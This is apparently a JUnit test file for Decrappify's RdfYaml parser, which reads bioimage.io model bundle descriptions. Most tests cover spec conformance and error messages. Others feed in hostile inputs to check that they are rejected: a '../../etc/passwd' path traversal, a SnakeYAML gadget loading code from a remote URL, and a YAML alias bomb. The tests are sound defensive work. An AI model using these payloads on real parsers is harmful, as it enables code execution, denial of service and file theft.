package io.github.decrappify.model;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.github.decrappify.model.BundleSpec.Artifacts;
import io.github.decrappify.model.BundleSpec.Author;
import io.github.decrappify.model.BundleSpec.FileRef;
import io.github.decrappify.model.BundleSpec.FrameAxis;
import io.github.decrappify.model.BundleSpec.Modality;
import io.github.decrappify.model.BundleSpec.PercentileRange;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class RdfYamlTest {

    static final String SHA = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    static BundleSpec spec() {
        Map<String, Object> training = new LinkedHashMap<>();
        training.put("steps", 12000);
        training.put("seed", 42L);
        training.put("losses", Map.of("final", 0.0123));
        training.put("command", List.of("decrappify", "train", "--scale", "4"));
        return BundleSpec.builder("em-x4", 4, Modality.EM)
                .optDescription("EM ×4 super-resolution: tests only")
                .optAuthors(List.of(new Author("Ada Lovelace", "Analytical Engines"), new Author("B. Babbage", null)))
                .optLicense("CC-BY-4.0")
                .optTags(List.of("super-resolution", "electron-microscopy"))
                .optInputFrames(3, FrameAxis.T)
                .optNormalisation(new PercentileRange(0.5, 99.5))
                .optSizes(64, 32)
                .optTiling(512, 24)
                .optCrappifier(Map.of("preset", "em-default", "noise", Map.of("poisson", true, "gaussian_sigma", 0.03)))
                .optTraining(training)
                .optArtifacts(new Artifacts(new FileRef("weights.zip", SHA), "2.16.1", new FileRef("test_input.npy", SHA),
                        new FileRef("test_output.npy", SHA), new FileRef("README.md", SHA),
                        List.of(new FileRef("cover.png", SHA))))
                .build();
    }

    @Test
    void roundTripPreservesEverything() throws BundleException {
        BundleSpec spec = spec();
        String yaml = RdfYaml.write(spec);
        assertEquals(spec, RdfYaml.read(yaml));
        assertFalse(yaml.contains("&") || yaml.contains("!!"), "no anchors or tags: other tools must read it\n" + yaml);
    }

    /** Required fields and types of the bioimage.io model description 0.5, encoded by hand from the spec. */
    @Test
    void writtenYamlMeetsTheModelSpec05() throws BundleException {
        assertMeetsModelSpec05(RdfYaml.parse(RdfYaml.write(spec())));
    }

    /** The bundles shipped in models/ (written by training runs, not by this test) meet it too. */
    @Test
    void shippedBundlesMeetTheModelSpec05() throws Exception {
        java.util.List<java.nio.file.Path> rdfs;
        try (var dirs = java.nio.file.Files.list(java.nio.file.Path.of("models"))) {
            rdfs = dirs.map(d -> d.resolve("rdf.yaml")).filter(java.nio.file.Files::isRegularFile).sorted().toList();
        }
        assertFalse(rdfs.isEmpty(), "models/ holds bundles");
        for (java.nio.file.Path rdf : rdfs) {
            Map<String, Object> parsed = RdfYaml.parse(java.nio.file.Files.readString(rdf));
            assertMeetsModelSpec05(parsed);
            for (Object f : java.util.List.of(rdf.resolveSibling("README.md"), rdf.resolveSibling("cover.png"))) {
                assertTrue(java.nio.file.Files.isRegularFile((java.nio.file.Path) f), f + " (documentation, covers)");
            }
        }
    }

    @SuppressWarnings("unchecked")
    static void assertMeetsModelSpec05(Map<String, Object> rdf) {
        Set<String> topLevel = Set.of("format_version", "type", "name", "description", "version", "authors", "cite",
                "license", "documentation", "covers", "tags", "inputs", "outputs", "weights", "config", "attachments",
                "id", "id_emoji", "git_repo", "icon", "links", "maintainers", "packaged_by", "parent", "run_mode",
                "timestamp", "training_data", "uploader");
        assertTrue(topLevel.containsAll(rdf.keySet()), "unknown top-level keys in " + rdf.keySet());
        assertTrue(((String) rdf.get("format_version")).matches("0\\.5\\.\\d+"));
        assertEquals("model", rdf.get("type"));
        assertInstanceOf(String.class, rdf.get("name"));
        assertInstanceOf(String.class, rdf.get("description"));
        assertTrue(((String) rdf.get("license")).matches("[A-Za-z0-9.+-]+"), "SPDX id");
        assertTrue(((String) rdf.get("documentation")).endsWith(".md"));
        for (Object a : nonEmptyList(rdf, "authors")) {
            assertInstanceOf(String.class, map(a).get("name"));
        }
        for (Object c : nonEmptyList(rdf, "cite")) {
            assertInstanceOf(String.class, map(c).get("text"));
            assertTrue(map(c).get("doi") instanceof String || map(c).get("url") instanceof String);
        }
        for (Object cover : (List<?>) rdf.get("covers")) {
            assertTrue(((String) cover).matches(".*\\.(png|jpg|jpeg|gif|svg|tif|tiff)"));
        }
        Map<String, Map<String, Object>> inputs = tensors(nonEmptyList(rdf, "inputs"), Map.of());
        Map<String, Map<String, Object>> outputs = tensors(nonEmptyList(rdf, "outputs"), inputs);
        // Output y/x sizes follow size = ref.size · ref.scale / axis.scale: the output must be 4× the input.
        Map<String, Object> inY = axis(inputs.get("input"), "y");
        Map<String, Object> outY = axis(outputs.get("output"), "y");
        double scale = ((Number) ((Map<String, Object>) map(rdf.get("config")).get("decrappify")).get("scale")).doubleValue();
        assertEquals(scale, ((Number) inY.get("scale")).doubleValue() / ((Number) outY.get("scale")).doubleValue());
        Map<String, Object> weights = map(rdf.get("weights"));
        Set<String> formats = Set.of("keras_hdf5", "onnx", "pytorch_state_dict", "tensorflow_js",
                "tensorflow_saved_model_bundle", "torchscript");
        assertTrue(formats.containsAll(weights.keySet()) && !weights.isEmpty());
        for (Object w : weights.values()) {
            fileDescr(w);
        }
        assertInstanceOf(String.class, map(weights.get("tensorflow_saved_model_bundle")).get("tensorflow_version"));
        assertInstanceOf(Map.class, map(rdf.get("config")).get("decrappify"));
    }

    private static Map<String, Map<String, Object>> tensors(List<?> list, Map<String, Map<String, Object>> inputs) {
        Set<String> keys = Set.of("id", "description", "axes", "test_tensor", "sample_tensor", "data", "optional",
                "preprocessing", "postprocessing");
        Map<String, Map<String, Object>> byId = new LinkedHashMap<>();
        for (Object t : list) {
            Map<String, Object> tensor = map(t);
            assertTrue(keys.containsAll(tensor.keySet()), "unknown tensor keys " + tensor.keySet());
            assertTrue(((String) tensor.get("id")).matches("[a-z][a-z0-9_]*"));
            for (Object a : nonEmptyList(tensor, "axes")) {
                Map<String, Object> axis = map(a);
                String type = (String) axis.get("type");
                assertTrue(Set.of("batch", "channel", "index", "time", "space").contains(type), type);
                if (type.equals("space")) {
                    assertInstanceOf(String.class, axis.get("id"));
                    checkSize(axis.get("size"), inputs);
                    assertInstanceOf(Number.class, axis.get("scale"));
                }
                if (type.equals("channel")) {
                    for (Object n : nonEmptyList(axis, "channel_names")) {
                        assertTrue(((String) n).matches("[A-Za-z_][A-Za-z0-9_]*"), "identifier " + n);
                    }
                }
            }
            fileDescr(tensor.get("test_tensor"));
            assertTrue(Set.of("float32", "float64", "uint8", "int8", "uint16", "int16", "uint32", "int32", "uint64",
                    "int64", "bool").contains(map(tensor.get("data")).get("type")));
            for (Object p : tensor.containsKey("preprocessing") ? (List<?>) tensor.get("preprocessing") : List.of()) {
                Map<String, Object> step = map(p);
                assertEquals("scale_range", step.get("id"));
                Map<String, Object> kwargs = map(step.get("kwargs"));
                double lo = ((Number) kwargs.get("min_percentile")).doubleValue();
                double hi = ((Number) kwargs.get("max_percentile")).doubleValue();
                assertTrue(0 <= lo && lo < hi && hi <= 100);
                assertInstanceOf(List.class, kwargs.get("axes"));
            }
            byId.put((String) tensor.get("id"), tensor);
        }
        return byId;
    }

    private static void checkSize(Object size, Map<String, Map<String, Object>> inputs) {
        if (size instanceof Integer i) {
            assertTrue(i > 0);
            return;
        }
        Map<String, Object> m = map(size);
        if (m.containsKey("min")) {
            assertTrue((Integer) m.get("min") > 0 && (Integer) m.get("step") >= 0);
        } else {
            Map<String, Object> ref = inputs.get((String) m.get("tensor_id"));
            if (ref == null) {
                fail("size references unknown tensor " + m.get("tensor_id"));
            }
            axis(ref, (String) m.get("axis_id"));
        }
    }

    private static void fileDescr(Object o) {
        Map<String, Object> f = map(o);
        assertInstanceOf(String.class, f.get("source"));
        assertTrue(((String) f.get("sha256")).matches("[0-9a-f]{64}"));
    }

    private static Map<String, Object> axis(Map<String, Object> tensor, String id) {
        for (Object a : (List<?>) tensor.get("axes")) {
            if (id.equals(map(a).get("id"))) {
                return map(a);
            }
        }
        throw new AssertionError("no axis " + id);
    }

    private static List<?> nonEmptyList(Map<String, Object> m, String key) {
        List<?> list = assertInstanceOf(List.class, m.get(key), key);
        assertFalse(list.isEmpty(), key + " is empty");
        return list;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Object o) {
        return assertInstanceOf(Map.class, o);
    }

    @Test
    void wrongTypesGiveOneLineMessagesNamingTheField() {
        String good = RdfYaml.write(spec());
        assertMessage(good.replace("  decrappify:\n    scale: 4", "  decrappify:\n    scale: four"),
                "rdf.yaml: config.decrappify.scale must be a positive integer");
        assertMessage(good.replace("  decrappify:\n    scale: 4", "  decrappify:\n    scale: -4"),
                "rdf.yaml: config.decrappify.scale must be a positive integer");
        assertMessage(good.replaceFirst("name: em-x4", "name: [em, x4]"), "rdf.yaml: name must be a string");
        assertMessage(good.replaceFirst("format_version: " + RdfYaml.FORMAT_VERSION, "format_version: 0.4.10"),
                "rdf.yaml: format_version is 0.4.10; Decrappify reads model descriptions 0.5.x");
        assertMessage(good.replace("min: 64", "min: '64'"), "rdf.yaml: inputs[0].axes[1].size.min must be a positive integer");
        assertMessage(good.replace("modality: em", "modality: xray"), "rdf.yaml: config.decrappify.modality must be 'em' or 'fluo'");
        assertMessage(good.replace("tensorflow_saved_model_bundle:", "onnx:"),
                "rdf.yaml: weights has no tensorflow_saved_model_bundle entry");
        assertMessage(good.replace("source: weights.zip", "source: ../../etc/passwd"),
                "rdf.yaml: weights.tensorflow_saved_model_bundle.source must be a plain file name inside the bundle");
        assertMessage(good.replaceFirst("- type: batch", "- type: time"), "rdf.yaml: inputs[0].axes[0].type must be 'batch'");
        assertMessage(good.replace("input_frames: 3", "input_frames: 1"),
                "rdf.yaml: config.decrappify.input_frames (1) disagrees with the input's 3 channel_names");
        assertMessage("- just a list", "rdf.yaml: must be a YAML mapping");
        assertMessage(good.replace("authors:\n  - name: Ada Lovelace\n    affiliation: Analytical Engines\n  - name: B. Babbage\n",
                "authors: nobody\n"),
                "rdf.yaml: authors must be a list");
    }

    @Test
    void refusesJavaTypeTagsAndAliasBombs() {
        assertMessage("name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "rdf.yaml: not valid YAML");
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
                    .append(p).append("]\n");
        }
        assertMessage(bomb.toString(), "rdf.yaml: not valid YAML");
    }

    private static void assertMessage(String yaml, String expectedStart) {
        BundleException e = assertThrows(BundleException.class, () -> RdfYaml.read(yaml));
        assertTrue(e.getMessage().startsWith(expectedStart), e.getMessage());
        assertFalse(e.getMessage().contains("\n"), "one line: " + e.getMessage());
    }
}
